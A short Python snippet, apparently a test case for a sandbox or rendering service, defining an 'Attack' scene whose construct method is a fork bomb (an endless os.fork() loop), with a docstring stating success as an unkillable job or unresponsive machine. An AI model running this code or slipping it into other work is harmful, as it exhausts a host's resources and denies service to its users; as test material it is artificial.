"""Success: the job can't be ended, or the machine stops answering.

Outcome: canceled
"""


class Attack(Scene):
    def construct(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
